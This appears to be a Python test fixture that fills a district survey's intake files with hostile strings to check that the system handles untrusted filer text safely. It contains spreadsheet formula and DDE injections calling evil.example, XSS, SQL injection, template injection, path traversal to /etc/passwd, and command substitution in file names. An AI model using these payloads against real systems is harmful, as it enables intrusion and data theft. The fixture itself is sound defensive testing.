"""The district of nine units with a harmful text wherever a filer writes freely, and rows with numbers that are none.

Every such text holds a mark, so that it is found wherever it goes: `ZZU…` where it names a unit of the survey, `ZZE…`
in evidence, which finance may see.
"""

from __future__ import annotations

from itertools import cycle
from pathlib import Path
from typing import Any

from tests.command import district
from tests.command.district import NAMES, RECEIVED
from tests.intake.office import Grid, code, delimited, workbook

# {} is the mark. Formulas, links, markup, script, SQL, templates, typesetting, text that runs back, terminals.
HARMFUL = (
    '=HYPERLINK("http://evil.example/{}","x")', "+1+{}", "-1+cmd|' /C calc'!{}", "@SUM(1,{})",
    "<script>alert('{}')</script>", "<img src=x onerror=alert('{}')>", "'; drop table ledger.receipts; -- {}",
    '{}"><b>x', "</script><script>{}", "{{{{ 7*7 }}}} {}", '#read("/etc/passwd") {}', "$x$ *{}* _y_",
    "\u202e{}\u202d", "http://evil.example/{}", "external:\\\\evil\\{}", "internal:'x'!A1 {}",
    "file:///etc/passwd {}", "&lt;b&gt;{}", "{}\x1b[31m", "{}\x00x", "../../{}", "%s%n {}", "{}'",
    "mailto:x@evil.example?{}",
)  # fmt: skip
PROJECTS = ("P1", "P2", "P3", "P4", "P5", "P6", "P7", "P8", "P9")
EVIDENCE = (
    "示例云", "F1", "F2", "F3", "F4", "F5", "登记示例1号企业", "登记示例2号企业", "登记示例3号企业",
    "登记示例4号企业", "示例经编机", "示例中心一", "示例中心二", "闽工信〔2023〕1号", "泉发改〔2022〕1号",
    "泉发改〔2022〕2号", "B001", "示例绿债", "泉财〔2023〕1号", "泉财〔2024〕1号", "泉财〔2023〕2号", "无此文号",
    "示例生产线", "D1",
)  # fmt: skip


def texts() -> dict[str, str]:
    """What stands in the place of each text of the district."""
    plain = [*NAMES.values(), *PROJECTS, *("示例" + name for name in PROJECTS), *EVIDENCE]
    marks = [f"ZZ{'E' if text in EVIDENCE else 'U'}{number:02d}" for number, text in enumerate(plain)]
    harmful = cycle(HARMFUL)
    return {text: next(harmful).format(mark) for text, mark in zip(plain, marks, strict=True)}


# Quantities of two more rows of energy, which are set aside.
NO_NUMBERS = ("NaN", "-Infinity")


def write(inbox: Path) -> None:
    """Write the inbox; files and sheets have harmful names as far as a disk and a workbook take them."""
    said = texts()

    def harmful(grid: Grid) -> Grid:
        return [[said.get(cell, cell) if isinstance(cell, str) else cell for cell in row] for row in grid]

    first = inbox / "' or 1=1 --"
    energy = district.energy() + [_set_aside(number, text) for number, text in enumerate(NO_NUMBERS, start=1)]
    books: dict[str, dict[str, Grid]] = {
        "=ZZE1.xlsx": {"=ZZE": energy, "<b>ZZE": [["x"]], "'ZZE 1": district.units()},
        "+ZZE2.xlsx": {"甲": district.output(), "乙": district.city(), "丙": district.deflators()},
        "<script>ZZE4.xlsx": {
            "登记": district.register(),
            "云": district.cloud(),
            "认": district.recognitions(),
        },
        "$(id)ZZE5.xlsx": {"债券": district.bonds(), "拨付": district.payments()},
    }
    for name, sheets in books.items():
        workbook(
            first / name,
            {title.strip("'"): _without_controls(harmful(grid)) for title, grid in sheets.items()},
        )
    delimited(
        first / "-ZZE3.csv",
        [*harmful(district.investment()), _too_late()],
        encoding="gb18030",
        delimiter="\t",
    )
    delimited(first / "@ZZE6.csv", [*harmful(district.progress()), *_strangers()])
    names = [*books, "-ZZE3.csv", "@ZZE6.csv"]
    filers = [text.format(f"ZZE9{number}") for number, text in enumerate(HARMFUL[:6])]
    lines = [[name, RECEIVED, filer] for name, filer in zip(names, filers, strict=True)]
    delimited(first / "清单.csv", [["文件名", "接收时间", "报送单位"], *lines])


def _set_aside(number: int, text: str) -> list[Any]:
    return [code(number), "2023年1-12月", 15, "天然气", "万立方米", text, text, "12.15"]


def _strangers() -> Grid:
    """Progress filed under names of no department of the district, which analysts see too."""
    row = district.progress()[1]
    return [
        [text.format(f"ZZE8{number}"), *row[1:3], f"D9{number}", *row[4:]]
        for number, text in enumerate(HARMFUL[:6])
    ]


def _too_late() -> list[Any]:
    row = list(district.investment()[2])
    return [*row[:7], "9999-12", row[8], "9" * 19, "inf"]


def _without_controls(grid: Grid) -> Grid:
    # No workbook holds these characters.
    return [
        [c.replace("\x00", "").replace("\x1b", "") if isinstance(c, str) else c for c in row] for row in grid
    ]
